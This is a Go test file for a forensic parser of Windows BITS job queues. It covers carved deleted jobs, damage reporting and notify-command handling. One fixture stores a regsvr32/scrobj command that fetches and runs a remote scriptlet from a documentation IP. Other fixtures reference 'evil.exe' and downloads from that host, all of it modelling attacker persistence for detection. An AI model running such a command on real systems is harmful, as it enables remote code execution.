package bits_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/birthmark-dfir/birthmark/bits"
	"github.com/birthmark-dfir/birthmark/bits/bitstest"
	"github.com/birthmark-dfir/birthmark/damage"
	"github.com/birthmark-dfir/birthmark/ese"
	"github.com/birthmark-dfir/birthmark/ese/esetest"
)

var when = time.Date(2026, 3, 2, 12, 0, 0, 123_000_000, time.UTC)

const owner = "S-1-5-21-1004336348-1177238915-682003330-1001"

// download is a job with all that a job can have.
func download() bits.Job {
	return bits.Job{
		ID: bitstest.ID(1), Priority: bits.Foreground, State: bits.Transferred, Name: "Ü 日本", Description: "update",
		Command: `C:\Windows\System32\regsvr32.exe`, Arguments: `regsvr32.exe /s /i:http://203.0.113.9/a.sct scrobj.dll`, Notify: bits.NotifyTransferred | bits.NotifyError | bits.NotifyModification,
		Owner: owner, Created: when, Modified: when.Add(time.Minute), Completed: when.Add(30 * time.Second), Expires: when.AddDate(0, 0, 90),
		Error: 0x80072ee7, ErrorContext: 5, TransientErrors: 2, RetryDelay: time.Minute, Timeout: time.Hour, Program: `C:\Windows\System32\bitsadmin.exe`, Method: "GET",
		Files: []*bits.File{
			{URL: "http://203.0.113.9/tool.exe", Path: `C:\Data\tool.exe`, Temp: `C:\Data\BIT1A2B.tmp`, Transferred: 7168, Total: 7168, Drive: `C:\`,
				Volume: `\\?\Volume{08542f90-0000-0000-0000-501f00000000}\`, DriveType: 3, Serial: 0xd49d126f, Modified: when.AddDate(0, -1, 0)},
			{URL: "http://203.0.113.9/日本.bin", Path: `C:\Data\part.bin`, Temp: `C:\Data\BIT1A2C.tmp`, Total: bits.Unknown, Drive: `C:\`,
				Volume: `\\?\Volume{08542f90-0000-0000-0000-501f00000000}\`, DriveType: 3, Serial: 1, Ranges: []bits.Range{{Offset: 7, Length: 9}, {Offset: 70, Length: 1}}},
		},
	}
}

// upload is a job that sends a file.
func upload() bits.Job {
	return bits.Job{
		ID: bitstest.ID(2), Type: bits.Upload, Priority: bits.Normal, State: bits.Suspended, Name: "up", Owner: "S-1-5-18", Notify: bits.NotifyTransferred,
		Created: when, Modified: when, Expires: when.AddDate(0, 0, 90), Method: "BITS_POST", Program: `C:\a.exe`,
		Files: []*bits.File{{URL: "https://203.0.113.9/in/", Path: `C:\Data\list.zip`, Total: 99, Drive: `C:\`, Volume: `\\?\Volume{1}\`, DriveType: 3, Serial: 7, Modified: when.AddDate(0, -2, 0)}},
	}
}

// older is a job that was taken out of the queue.
func older() bits.Job {
	j := download()
	j.ID, j.Name, j.Command, j.Arguments, j.Error, j.ErrorContext = bitstest.ID(3), "old", "", "", 0, 0
	f := *j.Files[0]
	f.URL, f.Path = "http://203.0.113.9/old.exe", `C:\Data\old.exe`
	j.Files = []*bits.File{&f}
	return j
}

func database(t testing.TB, q bitstest.Queue) []byte {
	t.Helper()
	raw, err := bitstest.Database(q)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func open(t testing.TB, raw []byte) *bits.Reader {
	t.Helper()
	r, err := bits.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// strip clears what only the place of a job decides.
func strip(j *bits.Job, list bool) bits.Job {
	c := *j
	c.Offset, c.Record, c.FileIDs = 0, "", nil
	c.Files = nil
	for _, f := range j.Files {
		made := *f
		made.Offset, made.Record = 0, ""
		made.ID = [16]byte{}
		c.Files = append(c.Files, &made)
	}
	if list { // which Windows 7 does not write
		c.Program, c.Method = "", ""
	}
	return c
}

func same(t *testing.T, got, want bits.Job) {
	t.Helper()
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
		for i := range min(len(got.Files), len(want.Files)) {
			if !reflect.DeepEqual(got.Files[i], want.Files[i]) {
				t.Errorf("file %d: got  %+v\nwant %+v", i, got.Files[i], want.Files[i])
			}
		}
	}
}

// What bitstest writes is read back as it was, in both formats: the queue, and what is left
// from before.
func TestWriterAndReaderAgree(t *testing.T) {
	q := bitstest.Queue{Jobs: []bits.Job{download(), upload()}, Deleted: []bits.Job{older()}}
	for name, raw := range map[string][]byte{"qmgr.db": database(t, q), "qmgr0.dat": bitstest.List(q)} {
		t.Run(name, func(t *testing.T) {
			r := open(t, raw)
			want := append(append([]bits.Job{}, q.Jobs...), q.Deleted...)
			n := 0
			for j, err := range r.Jobs() {
				if err != nil {
					t.Fatal(err)
				}
				w := strip(&want[n], name == "qmgr0.dat")
				got := strip(j, false)
				if n == 2 {
					w.Recovery = bits.Carved
					w.Files[0].Recovery = bits.Carved
				}
				same(t, got, w)
				if j.Record == "" || j.Offset <= 0 || len(j.Files) > 0 && j.Files[0].Offset <= 0 {
					t.Errorf("place: %q at %d", j.Record, j.Offset)
				}
				n++
			}
			for f := range r.Files() {
				t.Errorf("a file without a job: %+v", f)
			}
			for p := range r.Problems() {
				t.Error(p)
			}
			if n != len(want) {
				t.Errorf("%d jobs", n)
			}
		})
	}
}

// A file that is left from before without its job is yielded by itself.
func TestLostFile(t *testing.T) {
	f := *older().Files[0]
	f.ID = bitstest.ID(9)
	r := open(t, database(t, bitstest.Queue{Jobs: []bits.Job{download()}, Lost: []bits.File{f}}))
	n := 0
	for got := range r.Files() {
		n++
		if got.URL != f.URL || got.Path != f.Path || got.ID != f.ID || got.Recovery != bits.Carved {
			t.Errorf("%+v", got)
		}
	}
	if n != 1 {
		t.Errorf("%d files", n)
	}
}

// Of a job that is left from before, only versions are reported that a reader would tell
// apart: the last one, and those with another command.
func TestVersionsOfACarvedJob(t *testing.T) {
	first, second, last := older(), older(), older()
	first.State, first.Modified, first.Completed = bits.Queued, when.Add(time.Second), time.Time{}
	second.Command, second.Modified = `C:\evil.exe`, when.Add(2*time.Second)
	raw := database(t, bitstest.Queue{Jobs: []bits.Job{download()}, Deleted: []bits.Job{first, download(), second, last}})
	var got []string
	for j, err := range open(t, raw).Jobs() {
		if err != nil {
			t.Fatal(err)
		}
		if j.Recovery != bits.InQueue {
			got = append(got, fmt.Sprint(j.Name, " ", j.State, " ", j.Command))
		}
	}
	if want := []string{`old transferred C:\evil.exe`, "old transferred "}; !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// A carved job whose end is overwritten has its texts, and no times.
func TestCarvedInPart(t *testing.T) {
	for name, raw := range map[string][]byte{
		"qmgr.db":   database(t, bitstest.Queue{Deleted: []bits.Job{older()}}),
		"qmgr0.dat": bitstest.List(bitstest.Queue{Deleted: []bits.Job{older()}}),
	} {
		at := bytes.Index(raw, wide(owner)) + 2*len(owner) + 2 + 4
		for i := range raw[at : at+100] {
			raw[at+i] = 0xee
		}
		n := 0
		for j, err := range open(t, raw).Jobs() {
			if err != nil {
				t.Fatal(err)
			}
			if n++; j.Recovery != bits.CarvedInPart || j.Name != "old" || j.Owner != owner || !j.Created.IsZero() {
				t.Errorf("%s: %+v", name, j)
			}
		}
		if n != 1 {
			t.Errorf("%s: %d jobs", name, n)
		}
	}
}

func wide(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

// Damage of a list costs what it hits, and is reported.
func TestDamagedList(t *testing.T) {
	q := bitstest.Queue{Jobs: []bits.Job{download(), upload()}}
	le := binary.LittleEndian
	find := func(raw []byte, what string) int {
		i := bytes.Index(raw, []byte(what))
		if i < 0 {
			t.Fatalf("no %q", what)
		}
		return i
	}
	jobs := find(bitstest.List(q), "\x47\x44\x5f\x00")
	for _, tt := range []struct {
		name    string
		damage  func(raw []byte) []byte
		jobs    string // their names
		errs    string // of Jobs
		problem string
	}{
		{"nothing", func(b []byte) []byte { return b }, "Ü 日本,up", "", ""},
		{"more jobs are counted than there are", func(b []byte) []byte { le.PutUint32(b[jobs+16:], 3); return b }, "Ü 日本,up",
			"bits: job 3: job", "malformed: bits: job 3: job"},
		{"the mark behind the jobs is lost", func(b []byte) []byte {
			for {
				i := bytes.LastIndex(b, []byte("\x47\x44\x5f\x00"))
				if i <= jobs {
					return b
				}
				b[i] = 0
			}
		}, "Ü 日本,up", "", "truncation: bits: mark behind the jobs"},
		{"the mark of the jobs is lost", func(b []byte) []byte { b[jobs] = 0; return b }, "Ü 日本 (carved),up (carved)", "", "malformed: bits: mark of the jobs"},
		{"the state of a job", func(b []byte) []byte { b[jobs+20+16+8] = 77; return b }, "up", "bits: job 1: job at ", "malformed: bits: job 1: job at "},
		{"the length of a name", func(b []byte) []byte { le.PutUint32(b[jobs+20+16+32:], 1<<31); return b }, "up", "bits: job 1: name at ", "malformed: bits: job 1: name at "},
		{"the SID", func(b []byte) []byte { copy(b[bytes.Index(b, wide(owner)):], "XX"); return b }, "up", "bits: job 1: SID of the owner at ", "malformed: bits: job 1: SID of the owner at "},
		{"the number of files", func(b []byte) []byte {
			le.PutUint32(b[find(b, "\x36\xda\x56\x77")+16:], 9)
			return b
		}, "Ü 日本,up", "", "malformed: bits: job 1: file of the job at "},
		{"a path", func(b []byte) []byte { b[bytes.Index(b, wide(`C:\Data\part.bin`))] = 0; return b }, "Ü 日本,up", "", "malformed: bits: job 1: names of the file at "},
		{"the times", func(b []byte) []byte {
			i := find(b, "\x36\xda\x56\x77") + 16
			i += find(b[i:], "\x36\xda\x56\x77") + 16
			copy(b[i+4+21+12:], bytes.Repeat([]byte{0xff}, 8))
			return b
		}, "Ü 日本 (no times),up", "", "malformed: bits: job 1: times of the job at "},
		{"the rest is missing", func(b []byte) []byte { return b[:find(b, "\x36\xda\x56\x77")+40] }, "Ü 日本 (no times)", "bits: job 2: job at ", "truncation: bits: mark behind the jobs"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := open(t, tt.damage(bitstest.List(q)))
			var names, errs []string
			for j, err := range r.Jobs() {
				switch {
				case err != nil && !damage.Is(err):
					t.Fatal(err)
				case err != nil:
					errs = append(errs, err.Error())
				case j.Recovery != bits.InQueue:
					names = append(names, j.Name+" (carved)")
				case j.Created.IsZero():
					names = append(names, j.Name+" (no times)")
				default:
					names = append(names, j.Name)
				}
			}
			if got := strings.Join(names, ","); got != tt.jobs {
				t.Errorf("jobs %q, want %q", got, tt.jobs)
			}
			if got := strings.Join(errs, "\n"); !strings.HasPrefix(got, tt.errs) || (got == "") != (tt.errs == "") {
				t.Errorf("errors %q, want %q", got, tt.errs)
			}
			var problems []string
			for p := range r.Problems() {
				problems = append(problems, p.String())
			}
			if got := strings.Join(problems, "\n"); !strings.HasPrefix(got, tt.problem) || (got == "") != (tt.problem == "") {
				t.Errorf("problems %q, want %q", got, tt.problem)
			}
		})
	}
}

// Damage of a row of the database costs the row, and is reported.
func TestDamagedDatabase(t *testing.T) {
	columns := []esetest.Column{{Name: "Id", Type: ese.GUID}, {Name: "Blob", Type: ese.LongBinary}}
	j := download()
	j.FileIDs = append(j.FileIDs, bitstest.ID(7))
	other := j
	other.ID = bitstest.ID(8)
	blob, file := bitstest.Job(&j, false), bitstest.File(j.Files[0], false)
	raw, err := esetest.Bytes(esetest.Database{PageSize: bitstest.PageSize, Tables: []esetest.Table{
		{Name: "Jobs", Columns: columns, Rows: [][]any{{j.ID, blob}, {bitstest.ID(9), bitstest.Job(&other, false)}, {bitstest.ID(10), []byte("short")}, {bitstest.ID(11), nil}}},
		{Name: "Files", Columns: columns, Rows: [][]any{{bitstest.ID(7), file}, {bitstest.ID(12), file[16:]}, {bitstest.ID(13), file[:60]}}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	r := open(t, raw)
	jobs, errs := 0, 0
	for got, err := range r.Jobs() {
		switch {
		case err != nil:
			errs++
		case got.Recovery == bits.InQueue:
			if jobs++; len(got.Files) != 1 || got.Files[0].URL != j.Files[0].URL || got.Name != j.Name {
				t.Errorf("%+v", got)
			}
		}
	}
	conflicts := 0
	for p := range r.Problems() {
		if p.Kind == damage.Conflict {
			conflicts++
		}
	}
	if jobs != 2 || errs != 4 || conflicts != 1 {
		t.Errorf("%d jobs, %d errors, %d conflicts", jobs, errs, conflicts)
	}
}

func TestNotAQueue(t *testing.T) {
	other, err := esetest.Bytes(esetest.Database{Tables: []esetest.Table{{Name: "Jobs", Columns: []esetest.Column{{Name: "Id", Type: ese.GUID}}}}})
	if err != nil {
		t.Fatal(err)
	}
	for name, raw := range map[string][]byte{"another database": other, "a text": []byte("qmgr0.dat\r\n"), "nothing": nil} {
		if _, err := bits.NewReader(bytes.NewReader(raw), int64(len(raw))); !errors.Is(err, bits.ErrNotQueue) || !damage.Is(err) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// A database that is in use says so.
func TestDirtyDatabase(t *testing.T) {
	n := 0
	for p := range open(t, database(t, bitstest.Queue{Jobs: []bits.Job{download()}, Dirty: true})).Problems() {
		if p.Kind == damage.Unclean {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d problems", n)
	}
}

// What BITS runs, and whether it does.
func TestNotifyCommand(t *testing.T) {
	both := bits.NotifyTransferred | bits.NotifyError
	for _, tt := range []struct {
		command, arguments string
		notify             bits.Notify
		state              bits.State
		line               string
		runs               bool
	}{
		{"", "", both, bits.Queued, "", false},
		{`C:\a b\x.exe`, "", both, bits.Queued, `"C:\a b\x.exe"`, true},
		{`"C:\a b\x.exe"`, " ", both, bits.Transferred, `"C:\a b\x.exe"`, true},
		{`C:\Windows\System32\cmd.exe`, `cmd.exe /c C:\x.bat`, both, bits.Suspended, `"C:\Windows\System32\cmd.exe" /c C:\x.bat`, true},
		{`C:\Windows\System32\cmd.exe`, `CMD /c C:\x.bat`, bits.NotifyTransferred, bits.Failed, `"C:\Windows\System32\cmd.exe" /c C:\x.bat`, true},
		{`C:\Windows\System32\cmd.exe`, `"C:\Windows\System32\cmd.exe" /c C:\x.bat`, bits.NotifyError, bits.Queued, `"C:\Windows\System32\cmd.exe" /c C:\x.bat`, true},
		{`notepad.exe`, `C:\Data\x.txt`, both, bits.Queued, `"notepad.exe" C:\Data\x.txt`, true},
		{`C:\x.exe`, "", both | bits.NotifyDisabled, bits.Queued, `"C:\x.exe"`, false},
		{`C:\x.exe`, "", bits.NotifyModification, bits.Queued, `"C:\x.exe"`, false},
		{`C:\x.exe`, "", both, bits.Acknowledged, `"C:\x.exe"`, false},
		{`C:\x.exe`, "", both, bits.Cancelled, `"C:\x.exe"`, false},
	} {
		j := bits.Job{Command: tt.command, Arguments: tt.arguments, Notify: tt.notify, State: tt.state}
		if line, runs := j.CommandLine(), j.Runs(); line != tt.line || runs != tt.runs {
			t.Errorf("%q %q: got %q, %t, want %q, %t", tt.command, tt.arguments, line, runs, tt.line, tt.runs)
		}
		if off := j.Off(); tt.command != "" && (off == "") != tt.runs {
			t.Errorf("%q: %q keeps it off", tt.command, off)
		}
	}
}

func TestWords(t *testing.T) {
	for got, want := range map[string]string{
		bits.Upload.String(): "upload", bits.UploadReply.String(): "upload-reply", bits.Type(9).String(): "9", bits.Foreground.String(): "foreground", bits.Low.String(): "low",
		bits.Failed.String(): "error", bits.TransientError.String(): "transient error", bits.Cancelled.String(): "cancelled", bits.State(9).String(): "9",
		bits.Notify(0x43).String(): "job transferred, job error, 0x40", bits.CarvedInPart.String(): "carved in part",
	} {
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestComplete(t *testing.T) {
	for _, tt := range []struct {
		transferred, total uint64
		want               bool
	}{{7, 7, true}, {0, 0, false}, {6, 7, false}, {0, bits.Unknown, false}, {bits.Unknown, bits.Unknown, false}} {
		f := bits.File{Transferred: tt.transferred, Total: tt.total}
		if f.Complete() != tt.want {
			t.Errorf("%d of %d: %t", tt.transferred, tt.total, !tt.want)
		}
	}
}

func FuzzReader(f *testing.F) {
	q := bitstest.Queue{Jobs: []bits.Job{download(), upload()}, Deleted: []bits.Job{older()}, Lost: []bits.File{*older().Files[0]}, PageSize: 2048}
	f.Add(bitstest.List(q))
	f.Add(database(f, q))
	f.Fuzz(func(t *testing.T, raw []byte) {
		r, err := bits.NewReader(bytes.NewReader(raw), int64(len(raw)))
		if err != nil {
			if !damage.Is(err) {
				t.Fatalf("not located: %v", err)
			}
			return
		}
		for j, err := range r.Jobs() {
			if err != nil {
				if !damage.Is(err) {
					t.Fatalf("not located: %v", err)
				}
				continue
			}
			if j.Owner == "" || j.Record == "" || j.Offset < 0 || j.Offset >= int64(len(raw)) {
				t.Fatalf("a job of %q: %q at %d", j.Owner, j.Record, j.Offset)
			}
			j.CommandLine()
		}
		for f := range r.Files() {
			if f.URL == "" || f.Path == "" || f.Record == "" {
				t.Fatalf("%+v", f)
			}
		}
	})
}

func ExampleNewReader() {
	raw := bitstest.List(bitstest.Queue{Jobs: []bits.Job{{
		ID: bitstest.ID(1), Name: "update", Owner: "S-1-5-18", Created: when, Modified: when, Command: `C:\Data\up.exe`, Notify: bits.NotifyTransferred,
		Files: []*bits.File{{URL: "http://203.0.113.9/up.exe", Path: `C:\Data\up.exe`, Temp: `C:\Data\BIT1A2B.tmp`, Transferred: 7168, Total: 7168}},
	}}})
	r, err := bits.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		fmt.Println(err)
		return
	}
	defer r.Close()
	for j, err := range r.Jobs() {
		if err != nil {
			continue // damage, which cost a job
		}
		fmt.Println(j.Type, j.Name, "of", j.Owner, j.State, "runs", j.CommandLine())
		for _, f := range j.Files {
			fmt.Println(f.URL, "to", f.Path, f.Transferred, "of", f.Total)
		}
	}
	// Output:
	// download update of S-1-5-18 queued runs "C:\Data\up.exe"
	// http://203.0.113.9/up.exe to C:\Data\up.exe 7168 of 7168
}
